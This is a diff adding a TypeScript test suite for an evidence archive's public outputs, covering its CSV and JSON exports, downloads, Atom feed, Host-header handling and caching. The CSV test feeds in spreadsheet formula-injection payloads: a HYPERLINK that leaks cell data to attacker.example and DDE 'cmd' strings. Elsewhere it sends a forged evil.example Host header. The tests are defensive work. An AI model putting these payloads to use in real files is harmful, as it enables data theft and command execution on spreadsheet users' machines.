@@ -1,0 +1,294 @@
+import { execFileSync } from 'node:child_process';
+import { randomBytes } from 'node:crypto';
+import http from 'node:http';
+import { parse as parseCsv } from 'csv-parse/sync';
+import sharp from 'sharp';
+import * as catalogRepo from '../../db/catalog.repo';
+import * as mediaRepo from '../../db/media.repo';
+import { ConfigError, parseConfig } from '../../domain/config';
+import { Client, loggedInClient, submissionForm, type UploadFile } from '../helpers/http';
+import { startSystem, type TestSystem } from '../helpers/system';
+import { publish, uniquePng, uploadAndProcess, withdraw } from './archive-helpers';
+
+/**
+ * What the public side hands out, attacked from outside: spreadsheet formulas in the CSV export,
+ * uploaders' file names deciding how a download is typed, control characters in the Atom feed, a
+ * forged Host header in links, and caches that keep withdrawn material or carry a cookie.
+ */
+type Raw = { status: number; headers: http.IncomingHttpHeaders; body: string };
+
+/** node:http, because fetch may not send a Host header or a bare conditional request. */
+function raw(base: string, path: string, headers: Record<string, string> = {}, body?: { data: Buffer; type: string }): Promise<Raw> {
+  return new Promise((resolve, reject) => {
+    const req = http.request(`${base}${path}`, { method: body ? 'POST' : 'GET', headers: { ...headers, ...(body ? { 'content-type': body.type } : {}) } }, (res) => {
+      const chunks: Buffer[] = [];
+      res.on('data', (c: Buffer) => chunks.push(c));
+      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }));
+      res.on('error', reject);
+    });
+    req.on('error', reject);
+    req.end(body?.data);
+  });
+}
+
+/** A real JPEG of its own bytes. */
+async function uniqueJpeg(name: string): Promise<UploadFile> {
+  const [r, g, b] = randomBytes(3);
+  const data = await sharp({ create: { width: 64, height: 48, channels: 3, background: { r: r!, g: g!, b: b! } } })
+    .composite([{ input: randomBytes(16 * 16 * 3), raw: { width: 16, height: 16, channels: 3 }, left: 8, top: 8 }])
+    .jpeg()
+    .toBuffer();
+  return { name, data, type: name.endsWith('.html') ? 'text/html' : 'application/x-msdownload' };
+}
+
+const FORMULA_START = /^[=+\-@\t\r]/;
+/** What XML 1.0 allows (https://www.w3.org/TR/xml/#charsets); anything else makes a feed unreadable. */
+const XML_FORBIDDEN = /[^\t\n\r\x20-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u;
+
+describe('public output', () => {
+  let system: TestSystem;
+  let moderator: Client;
+  let election: number;
+  const nonce = `n${randomBytes(4).toString('hex')}`;
+  const base = (extra: Record<string, string> = {}) => ({
+    election_id: String(election),
+    region: 'Москва',
+    station_number: '4711',
+    category_code: 'ballot_stuffing',
+    description: `Вброс ${nonce}`,
+    ...extra,
+  });
+  const firstFile = async (submissionId: string) => (await mediaRepo.listMediaFiles(system.ctx.db, submissionId))[0]!;
+
+  beforeAll(async () => {
+    system = await startSystem({ env: { PUBLIC_API_REQUESTS_PER_MINUTE: '100000' } });
+    moderator = await loggedInClient(system.ctx, system.url);
+    // Tab and CR cannot start a form field (they are trimmed): they reach the export in names an admin typed.
+    const slug = `t-output-${randomBytes(4).toString('hex')}`;
+    election = (
+      await catalogRepo.insertElection(system.ctx.db, {
+        slug,
+        nameRu: `\r=Выборы ${slug}`,
+        nameEn: `\t=Election ${slug}`,
+        country: 'RU',
+        votingStartsOn: '2024-03-15',
+        votingEndsOn: '2024-03-17',
+      })
+    ).id;
+  }, 120_000);
+
+  afterAll(async () => {
+    await system?.stop();
+  });
+
+  test('CSV export: a cell a spreadsheet would run as a formula starts with a quote; the JSON export is exact', async () => {
+    const sent: Record<string, { region: string; title: string; description: string }> = {};
+    for (const c of ['=', '+', '-', '@']) {
+      const text = {
+        region: `${c}HYPERLINK("http://attacker.example/?leak="&A1,"Москва")`,
+        title: `${c}cmd|' /C calc'!A0`,
+        description: `${c}SUM(1+1)*cmd|' /C calc'!A0 ${nonce}`,
+      };
+      const id = await uploadAndProcess(system, base({ region: text.region, description: text.description }), [await uniquePng()]);
+      await publish(moderator, id, { public_title: text.title });
+      sent[id] = text;
+    }
+
+    const json = (await (await fetch(`${system.url}/api/v1/export.json?election=${election}`)).json()) as Record<string, string | null>[];
+    const csv = parseCsv(await (await fetch(`${system.url}/api/v1/export.csv?election=${election}`)).text()) as string[][];
+    const header = csv[0]!;
+    const csvRecords = csv.slice(1).map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]!])));
+    expect(json.map((r) => r.id).sort()).toEqual(Object.keys(sent).sort());
+    expect(csvRecords.map((r) => r.id).sort()).toEqual(Object.keys(sent).sort());
+
+    for (const record of json) {
+      // JSON: exactly what the observer and the moderator wrote
+      expect({ region: record.region, title: record.title, description: record.description }).toEqual(sent[record.id!]);
+      expect(record.election_en).toMatch(/^\t=Election/);
+      expect(record.election_ru).toMatch(/^\r=Выборы/);
+      const row = csvRecords.find((r) => r.id === record.id)!;
+      for (const column of ['region', 'title', 'description', 'election_en', 'election_ru']) {
+        expect({ column, cell: row[column] }).toEqual({ column, cell: `'${record[column]}` });
+      }
+      for (const [column, cell] of Object.entries(row)) {
+        if (column !== 'latitude' && column !== 'longitude') expect({ column, cell }).not.toEqual({ column, cell: expect.stringMatching(FORMULA_START) });
+      }
+    }
+  }, 180_000);
+
+  test('downloads are named and typed from the sniffed type, originals always as attachments, never sniffed by the browser', async () => {
+    const uploaded: { fileId: string; uploadedAs: string }[] = [];
+    for (const name of ['evidence.html', 'x.exe']) {
+      const id = await uploadAndProcess(system, base(), [await uniqueJpeg(name)]);
+      await publish(moderator, id, { original_downloadable: true });
+      uploaded.push({ fileId: (await firstFile(id)).id, uploadedAs: name });
+    }
+    for (const { fileId, uploadedAs } of uploaded) {
+      const downloads = [
+        { who: 'public', client: new Client(system.url), path: `/media/${fileId}/original`, name: `svidetel-${fileId}-original.jpg` },
+        { who: 'moderator', client: moderator, path: `/moderation/files/${fileId}/original`, name: `${uploadedAs.replace(/\.[a-z]+$/, '')}.jpg` },
+      ];
+      for (const { who, client, path, name } of downloads) {
+        const res = await client.fetch(path);
+        expect({ who, uploadedAs, status: res.status, type: res.headers.get('content-type'), disposition: res.headers.get('content-disposition'), nosniff: res.headers.get('x-content-type-options') }).toEqual({
+          who,
+          uploadedAs,
+          status: 200,
+          type: 'image/jpeg',
+          disposition: expect.stringMatching(new RegExp(`^attachment; filename="?${name.replace(/\./g, '\\.')}"?$`)),
+          nosniff: 'nosniff',
+        });
+        expect((await res.arrayBuffer()).byteLength).toBeGreaterThan(0);
+      }
+      const copy = await fetch(`${system.url}/media/${fileId}/published.jpg`);
+      expect([copy.headers.get('content-type'), copy.headers.get('content-disposition'), copy.headers.get('x-content-type-options')]).toEqual([
+        'image/jpeg',
+        expect.stringMatching(new RegExp(`^attachment; filename="?svidetel-${fileId}\\.jpg"?$`)),
+        'nosniff',
+      ]);
+    }
+  }, 180_000);
+
+  test('Atom feed: control characters XML 1.0 forbids are dropped, and the feed parses', async () => {
+    const controls = Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).filter((ch) => !'\x00\t\n\r'.includes(ch)).join('');
+    const id = await uploadAndProcess(system, base({ description: `Вброс\x0bв 12:05 ${controls}\uFFFE\uFFFF конец ${nonce}` }), [await uniquePng()]);
+    await publish(moderator, id, { public_title: `Заголовок\x0b${controls}\uFFFF конец` });
+
+    const res = await fetch(`${system.url}/api/v1/feed.atom?election=${election}&q=${nonce}`);
+    expect(res.status).toBe(200);
+    const feed = await res.text();
+    expect(XML_FORBIDDEN.exec(feed)).toBeNull();
+    // A real XML parser, strict: it fails on anything a subscriber's reader would reject.
+    expect(() => execFileSync('xmllint', ['--noout', '-'], { input: feed, stdio: ['pipe', 'pipe', 'pipe'] })).not.toThrow();
+    expect(feed).toContain(`urn:uuid:${id}`);
+    expect(feed).toContain('<title>Заголовок конец</title>');
+  }, 120_000);
+
+  describe('links', () => {
+    let entryId: string;
+    beforeAll(async () => {
+      entryId = await uploadAndProcess(system, base(), [await uniquePng()]);
+      await publish(moderator, entryId);
+    }, 120_000);
+
+    // Whatever a client sends as its host, links are the site's own (PUBLIC_URL; in tests, the listening address).
+    const forged = { host: 'evil.example', 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https' };
+
+    test('a forged Host header reaches no feed, export, canonical link or receipt', async () => {
+      const got = {
+        feed: await raw(system.url, `/api/v1/feed.atom?election=${election}`, forged),
+        csv: await raw(system.url, `/api/v1/export.csv?election=${election}`, forged),
+        json: await raw(system.url, `/api/v1/export.json?election=${election}`, forged),
+        entry: await raw(system.url, `/archive/${entryId}`, forged),
+      };
+      for (const [what, res] of Object.entries(got)) {
+        expect({ what, status: res.status }).toEqual({ what, status: 200 });
+        expect({ what, evil: res.body.includes('evil.example') }).toEqual({ what, evil: false });
+        expect({ what, own: res.body.includes(`${system.url}/archive/${entryId}`) }).toEqual({ what, own: true });
+      }
+      expect(got.entry.body).toContain(`<link rel="canonical" href="${system.url}/archive/${entryId}">`);
+
+      // The upload's receipt carries proof links too.
+      const observer = new Client(system.url);
+      await observer.page('/');
+      const form = new Response(submissionForm(base(), [await uniquePng()]));
+      const upload = await raw(system.url, '/api/v1/submissions', { ...forged, cookie: observer.cookieHeader(), 'x-csrf-token': observer.csrf, accept: 'application/json' }, {
+        data: Buffer.from(await form.arrayBuffer()),
+        type: form.headers.get('content-type')!,
+      });
+      expect(upload.status).toBe(201);
+      expect(upload.body).not.toContain('evil.example');
+      expect(upload.body).toContain(`${system.url}/api/v1/log/proof/bundle`);
+    }, 120_000);
+
+    test('production refuses to start without PUBLIC_URL, and says so', () => {
+      expect(() => parseConfig({ NODE_ENV: 'production' })).toThrow(ConfigError);
+      expect(() => parseConfig({ NODE_ENV: 'production' })).toThrow(/PUBLIC_URL/);
+      expect(parseConfig({ NODE_ENV: 'production', PUBLIC_URL: 'https://svidetel.example.org/' }).publicUrl).toBe('https://svidetel.example.org');
+      expect(parseConfig({ NODE_ENV: 'development' }).publicUrl).toBeUndefined();
+    });
+  });
+
+  describe('caches', () => {
+    let entryId: string;
+    let fileId: string;
+    beforeAll(async () => {
+      entryId = await uploadAndProcess(system, base({ station_number: '4712' }), [await uniqueJpeg('photo.html')]);
+      await publish(moderator, entryId, { original_downloadable: true });
+      fileId = (await firstFile(entryId)).id;
+    }, 120_000);
+
+    const publicPaths = () => [
+      `/archive?election=${election}`,
+      `/archive/${entryId}`,
+      `/stations/${election}/${encodeURIComponent('Москва')}/4712`,
+      '/map',
+      `/api/v1/search?election=${election}`,
+      `/api/v1/entries/${entryId}`,
+      `/api/v1/stations/${election}/${encodeURIComponent('Москва')}/4712`,
+      `/api/v1/map?election=${election}`,
+      `/api/v1/feed.atom?election=${election}`,
+      `/media/${fileId}/thumb.jpg`,
+      `/media/${fileId}/preview.jpg`,
+      `/media/${fileId}/published.jpg`,
+      `/media/${fileId}/original`,
+    ];
+
+    test('no cacheable public response sets a cookie; a response that sets one is not stored by shared caches', async () => {
+      for (const path of publicPaths()) {
+        const res = await raw(system.url, path);
+        expect({ path, status: res.status, setCookie: res.headers['set-cookie'] ?? null, nosniff: res.headers['x-content-type-options'] }).toEqual({
+          path,
+          status: 200,
+          setCookie: null,
+          nosniff: 'nosniff',
+        });
+        expect({ path, cacheControl: res.headers['cache-control'] }).toEqual({ path, cacheControl: expect.stringMatching(/^public, /) });
+      }
+      // Choosing a language sets a cookie: that answer is one browser's own.
+      const chosen = await raw(system.url, `/archive?election=${election}&lang=ru`);
+      expect(chosen.headers['set-cookie']?.join(';')).toMatch(/lang=ru/);
+      expect(chosen.headers['cache-control']).toMatch(/private|no-store/);
+      // Forms still get their anonymous CSRF token, and a page that carries it is never shared.
+      for (const path of ['/', '/login']) {
+        const page = await raw(system.url, path);
+        const cookie = page.headers['set-cookie']?.join(';') ?? '';
+        expect({ path, cookie }).toEqual({ path, cookie: expect.stringMatching(/svid_csrf=/) });
+        expect({ path, cacheControl: page.headers['cache-control'] }).toEqual({ path, cacheControl: expect.stringMatching(/private|no-store/) });
+        const again = await raw(system.url, path, { cookie: cookie.split(';')[0]! });
+        expect({ path, setCookie: again.headers['set-cookie'] ?? null, cacheControl: again.headers['cache-control'] }).toEqual({ path, setCookie: null, cacheControl: expect.stringMatching(/private|no-store/) });
+      }
+    }, 60_000);
+
+    test('withdrawable material is revalidated: short max-age, an ETag, a 304 while published and none after withdrawal', async () => {
+      const paths = [`/media/${fileId}/original`, `/media/${fileId}/published.jpg`, `/media/${fileId}/thumb.jpg`, `/archive/${entryId}`, `/api/v1/entries/${entryId}`];
+      const etags: Record<string, string> = {};
+      for (const path of paths) {
+        const res = await raw(system.url, path);
+        const maxAge = Number(/max-age=(\d+)/.exec(res.headers['cache-control'] ?? '')?.[1] ?? NaN);
+        const revalidates = /no-cache/.test(res.headers['cache-control'] ?? '') || maxAge <= 60;
+        expect({ path, cacheControl: res.headers['cache-control'], revalidates, etag: typeof res.headers.etag }).toEqual({
+          path,
+          cacheControl: res.headers['cache-control'],
+          revalidates: true,
+          etag: 'string',
+        });
+        etags[path] = res.headers.etag!;
+        const again = await raw(system.url, path, { 'if-none-match': etags[path] });
+        expect({ path, status: again.status, body: again.body }).toEqual({ path, status: 304, body: '' });
+      }
+
+      await withdraw(moderator, entryId, 'Опасность для наблюдателя');
+      for (const path of paths.filter((p) => p.startsWith('/media/'))) {
+        const plain = await raw(system.url, path);
+        const conditional = await raw(system.url, path, { 'if-none-match': etags[path]! });
+        expect({ path, plain: [404, 410].includes(plain.status), conditional: [404, 410].includes(conditional.status) }).toEqual({ path, plain: true, conditional: true });
+      }
+      // The entry's page now says it was withdrawn: a cache holding the published version must not be told it is still fresh.
+      for (const path of paths.filter((p) => !p.startsWith('/media/'))) {
+        const conditional = await raw(system.url, path, { 'if-none-match': etags[path]! });
+        expect({ path, status: conditional.status }).toEqual({ path, status: 200 });
+      }
+    }, 120_000);
+  });
+});
